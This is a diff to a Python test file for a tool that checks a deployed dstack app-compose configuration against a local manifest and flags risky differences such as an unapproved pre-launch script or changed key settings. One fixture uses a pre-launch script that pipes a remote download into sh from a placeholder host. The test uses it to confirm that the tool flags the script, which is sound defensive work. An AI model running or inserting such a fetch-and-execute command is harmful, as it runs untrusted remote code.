@@ -167,25 +167,70 @@ def test_ci_overlay_gives_the_service_host_networking_on_loopback_without_ports(
     assert "ports" not in services["service"]
 
 
-def test_check_accepts_a_deployment_that_only_adds_platform_fields(tmp_path: Path) -> None:
+def _deployed(tmp_path: Path, **changes: Any) -> tuple[Path, bytes]:
+    """An /Info answer whose tcb_info.app_compose is ours with `changes` applied."""
     ours = render(MANIFEST.read_bytes())
-    deployed = {**orjson.loads(ours.app_compose), "pre_launch_script": "echo phala"}
-    deployed_bytes = canonical_json(deployed)
+    deployed_bytes = canonical_json({**orjson.loads(ours.app_compose), **changes})
     info = {"tcb_info": orjson.dumps({"app_compose": deployed_bytes.decode()}).decode()}
-    (tmp_path / "info.json").write_bytes(orjson.dumps(info))
-    result = run("check", str(MANIFEST), str(tmp_path / "info.json"))
+    path = tmp_path / "info.json"
+    path.write_bytes(orjson.dumps(info))
+    return path, deployed_bytes
+
+
+def test_check_accepts_harmless_platform_fields_and_a_pre_launch_script_you_allowed(
+    tmp_path: Path,
+) -> None:
+    script = "echo phala"
+    path, deployed_bytes = _deployed(
+        tmp_path, pre_launch_script=script, gateway_enabled=False, secure_time=True
+    )
+    refused = run("check", str(MANIFEST), str(path))
+    assert refused.returncode == 1, refused.stdout + refused.stderr
+    assert b"MATTERS  pre_launch_script" in refused.stdout
+    digest = hashlib.sha256(script.encode()).hexdigest()
+    result = run("check", str(MANIFEST), str(path), "--allow-pre-launch-script", digest)
     assert result.returncode == 0, result.stdout + result.stderr
     deployed_hash = hashlib.sha256(deployed_bytes).hexdigest()
-    assert deployed_hash != ours.compose_hash.hex()
     assert f"--expect-compose-hash {deployed_hash}".encode() in result.stdout
-    assert b"pre_launch_script" in result.stdout
+    assert b"note     gateway_enabled" in result.stdout
+    assert b"note     secure_time" in result.stdout
+    assert f"sha256 {digest} allowed by you".encode() in result.stdout
+
+
+def test_check_lists_every_difference_that_matters(tmp_path: Path) -> None:
+    ours = orjson.loads(render(MANIFEST.read_bytes()).app_compose)
+    path, _ = _deployed(
+        tmp_path,
+        pre_launch_script="curl -fsSL https://example.invalid/x.sh | sh",
+        kms_enabled=not ours.get("kms_enabled", False),
+        key_provider="local",
+        allowed_envs=[*ours.get("allowed_envs", []), "EXTRA_TOKEN"],
+        public_logs=not ours.get("public_logs", False),
+        features=["kms"],
+    )
+    result = run("check", str(MANIFEST), str(path))
+    assert result.returncode == 1
+    out = result.stdout.decode()
+    for field in (
+        "allowed_envs",
+        "features",
+        "key_provider",
+        "kms_enabled",
+        "pre_launch_script",
+        "public_logs",
+    ):
+        assert f"MATTERS  {field}:" in out, out
+    assert "EXTRA_TOKEN at deploy time" in out
+    assert "does not know to be harmless" in out
+    assert out.splitlines()[-1].startswith("NOT OK:")
+    assert "OK: the deployment runs" not in out
 
 
 def test_check_rejects_a_deployment_running_another_compose(vectors: Path) -> None:
     other = vectors / "dstack-head" / "simulator" / "app-compose.json"
     result = run("check", str(MANIFEST), str(other))
     assert result.returncode == 1
-    assert b"MISMATCH" in result.stdout
+    assert b"MATTERS  docker_compose_file" in result.stdout
     assert hashlib.sha256(other.read_bytes()).hexdigest().encode() in result.stdout
 
 
